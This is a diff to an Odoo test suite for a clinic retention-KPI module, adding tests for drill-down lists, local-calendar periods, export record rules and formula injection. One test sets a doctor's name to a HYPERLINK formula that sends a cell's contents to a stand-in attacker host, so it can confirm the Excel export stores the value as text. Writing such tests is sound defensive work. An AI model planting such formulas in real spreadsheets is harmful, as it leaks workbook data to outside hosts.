@@ -4,6 +4,8 @@ import zipfile
 from datetime import date, datetime
 
 import openpyxl
+from dateutil.relativedelta import relativedelta
+from freezegun import freeze_time
 
 from odoo.addons.clinic_retention.report.clinic_retention_kpi import KPI_COLUMNS
 from odoo.fields import Command
@@ -182,6 +184,7 @@ class TestReports(TransactionCase):
         )
         complaint.write({"received_date": datetime(2026, 2, 10, 9)})
         cls.env.flush_all()
+        cls.env["clinic.retention.report"]._refresh()  # materialized: refreshed nightly or on demand
 
     def _kpis(self, user, **kwargs):
         return self.env["clinic.retention.kpi"].with_user(user).with_company(self.company)._compute(*Q1, **kwargs)
@@ -236,7 +239,7 @@ class TestReports(TransactionCase):
         (self.dental | self.cardio).member_ids = [Command.link(both.id)]
         [clinic] = self._kpis(self.manager)
         [line] = self._kpis(both)
-        self.assertEqual(line["department"], self.dental | self.cardio)
+        self.assertFalse(line["department"], "the rules let them see every department: the whole clinic")
         # every visit of this clinic is in one of the two: the whole clinic's figures, none lost on the way
         for key in (*KPI_COLUMNS, "prr", "churn", "avg_value", "lifetime_value"):
             self.assertAlmostEqual(float(line[key]), float(clinic[key]), places=6, msg=key)
@@ -324,19 +327,159 @@ class TestReports(TransactionCase):
             [{"patients_start": 2, "patients_new": 1, "patients_end": 3, "patients_lost": 0, "prr": 100.0}],
         )
         february = Report.search([("department_id", "=", self.dental.id), ("date", "=", date(2026, 2, 1))])
-        self.assertEqual((february.patients_lost, february.churn), (1, 100 / 3), "P2 lapses in February")
+        self.assertEqual(february.patients_lost, 1, "P2 lapses in February")
+        self.assertAlmostEqual(february.churn, 100 / 3)
         again = Report.search([("department_id", "=", self.dental.id), ("date", "=", date(2026, 3, 1))])
         self.assertEqual(again.id, march.id, "stable ids")
 
     def test_dashboard_drills_into_the_lists(self):
-        dashboard = self.env["clinic.retention.dashboard"].with_user(self.manager).with_company(self.company).create({})
-        lost = dashboard.with_context(kpi="patients_lost", which="current")._patient_ids("patients_lost", "current")
-        self.assertIsInstance(lost, list)
-        Kpi = self.env["clinic.retention.kpi"].with_user(self.manager).with_company(self.company)
-        self.env.cr.execute(Kpi._lost_patients_sql(*Q1, Kpi._allowed_departments(), self.company))
-        self.assertEqual([row[0] for row in self.env.cr.fetchall()], self.p2.ids)
+        dashboard = (
+            self.env["clinic.retention.dashboard"]
+            .with_user(self.manager)
+            .with_company(self.company)
+            .create({"period": "quarter"})
+        )
+        # the lists behind the counts come from the same definition: Q1 2026 as the "previous" quarter
+        with freeze_time("2026-05-15 12:00:00"):
+            self.assertEqual(dashboard._bounds("previous"), Q1)
+            expected = {
+                "patients_start": self.p1 | self.p2 | self.p5,
+                "patients_new": self.p3,
+                "patients_end": self.p1 | self.p3 | self.p4 | self.p5,
+                "patients_lost": self.p2,
+            }
+            for kpi, patients in expected.items():
+                self.assertEqual(dashboard._patient_ids(kpi, "previous"), sorted(patients.ids), kpi)
+                action = dashboard.with_context(kpi=kpi, which="previous").action_drill()
+                self.assertEqual(action["domain"], [("id", "in", sorted(patients.ids))], kpi)
         action = dashboard.with_context(kpi="overdue_tasks").action_drill()
         self.assertEqual(action["res_model"], "clinic.followup.task")
+
+    def test_drill_down_lists_match_the_counts(self):
+        """One definition: for every selection, the number of patients listed
+        behind S, N, E and lost is the count shown."""
+        Kpi = self.env["clinic.retention.kpi"].with_company(self.company)
+        for user in (self.manager, self.agent):
+            for department_ids in (None, self.dental.ids, self.cardio.ids):
+                lines = Kpi.with_user(user)._compute(*Q1, department_ids=department_ids)
+                if not lines:
+                    continue
+                for flag, count in (
+                    ("at_start", "patients_start"),
+                    ("is_new", "patients_new"),
+                    ("at_end", "patients_end"),
+                    ("lost", "patients_lost"),
+                ):
+                    patients = Kpi.with_user(user)._patient_ids(flag, *Q1, department_ids=department_ids)
+                    self.assertEqual(len(patients), lines[0][count], (user.login, department_ids, flag))
+
+    def test_periods_are_the_clinics_local_calendar(self):
+        """A visit at 04:00 on 1 April in Shanghai (20:00 UTC on 31 March)
+        belongs to April: to Q2, not to Q1."""
+        self.company.partner_id.tz = "Asia/Shanghai"
+        late = self.env["clinic.patient"].create(
+            {"name": "KPI Early April", "mobile": "13800000009", "company_id": self.company.id}
+        )
+        start = datetime(2026, 3, 31, 20, 0)
+        self.env["clinic.visit"].create(
+            {
+                "patient_id": late.id,
+                "department_id": self.dental.id,
+                "company_id": self.company.id,
+                "start": start,
+                "stop": start.replace(minute=30),
+                "state": "done",
+                "amount": 1000,
+            }
+        )
+        [q1] = self._kpis(self.manager)
+        self.assertEqual((q1["patients_new"], float(q1["revenue"])), (1, 200 + 150 + 120 + 500), "not in Q1")
+        [q2] = (
+            self.env["clinic.retention.kpi"]
+            .with_user(self.manager)
+            .with_company(self.company)
+            ._compute(date(2026, 4, 1), date(2026, 6, 30))
+        )
+        self.assertEqual((q2["patients_new"], float(q2["revenue"])), (1, 1000.0))
+        with freeze_time("2026-03-31 17:00:00"):  # 01:00 on 1 April in Shanghai
+            current, _previous = self.env["clinic.retention.kpi"].with_company(self.company)._periods("month")
+        self.assertEqual(current, (date(2026, 4, 1), date(2026, 4, 30)))
+
+    def test_excel_formulas_are_written_as_text(self):
+        """Security review #21: a user named "=HYPERLINK(...)" must not put a
+        live formula or link into a manager's workbook."""
+        self.doctor.name = '=HYPERLINK("https://evil.example/?"&A4,"Dr Li")'
+        wizard = (
+            self.env["clinic.retention.export"]
+            .with_user(self.manager)
+            .with_company(self.company)
+            .create({"date_from": Q1[0], "date_to": Q1[1]})
+        )
+        wizard.action_export()
+        content = base64.b64decode(wizard.file)
+        sheet = openpyxl.load_workbook(io.BytesIO(content))["Satisfaction"]
+        cells = [cell for row in sheet.iter_rows() for cell in row if str(cell.value or "").startswith("=HYPERLINK")]
+        self.assertTrue(cells, "the doctor's name is in the sheet")
+        self.assertEqual({cell.data_type for cell in cells}, {"s"}, "as a string, not a formula")
+        with zipfile.ZipFile(io.BytesIO(content)) as archive:
+            sheets = "".join(archive.read(name).decode() for name in archive.namelist() if "worksheets" in name)
+        self.assertNotIn("<f>", sheets)
+        self.assertNotIn("hyperlink", sheets.lower().replace("=hyperlink", ""))
+
+    def test_agent_export_lists_equal_the_agent_list_views(self):
+        """The export's lists are what the agent's list views show (record
+        rules decide): a task assigned to the dental agent in cardiology,
+        whose team they are not in, is in both; a cardiology task of
+        somebody else is in neither."""
+        Task = self.env["clinic.followup.task"]
+        yesterday = date.today() - relativedelta(days=1)
+        mine = Task.create(
+            {
+                "name": "KPI cardio task of the dental agent",
+                "patient_id": self.p5.id,
+                "department_id": self.cardio.id,
+                "user_id": self.agent.id,
+                "date_deadline": yesterday,
+            }
+        )
+        Task.create(
+            {
+                "name": "KPI cardio task of nobody",
+                "patient_id": self.p5.id,
+                "department_id": self.cardio.id,
+                "date_deadline": yesterday,
+            }
+        )
+        Task.create(
+            {
+                "name": "KPI dental overdue",
+                "patient_id": self.p1.id,
+                "department_id": self.dental.id,
+                "date_deadline": yesterday,
+            }
+        )
+        self.env["clinic.complaint"].create(
+            {
+                "name": "KPI cardio complaint",
+                "description": "Waited an hour",
+                "company_id": self.company.id,
+                "patient_id": self.p5.id,
+                "department_id": self.cardio.id,
+            }
+        )
+        agent_env = self.env(user=self.agent, context=dict(self.env.context, allowed_company_ids=self.company.ids))
+        wizard = agent_env["clinic.retention.export"].create({"date_from": Q1[0], "date_to": Q1[1]})
+        wizard.action_export()
+        book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(wizard.file)))
+        exported_tasks = sorted(row[0] for row in book["Overdue tasks"].iter_rows(min_row=4, values_only=True))
+        seen_tasks = sorted(agent_env["clinic.followup.task"].search([("is_overdue", "=", True)]).mapped("name"))
+        self.assertEqual(exported_tasks, seen_tasks)
+        self.assertIn(mine.name, exported_tasks)
+        self.assertNotIn("KPI cardio task of nobody", exported_tasks)
+        exported = sorted(row[0] for row in book["Open complaints"].iter_rows(min_row=4, values_only=True))
+        seen = sorted(agent_env["clinic.complaint"].search([("is_open", "=", True)]).mapped("reference"))
+        self.assertEqual(exported, seen)
+        self.assertTrue(seen, "the agent's own department's complaint")
 
     def test_excel_export(self):
         wizard = (
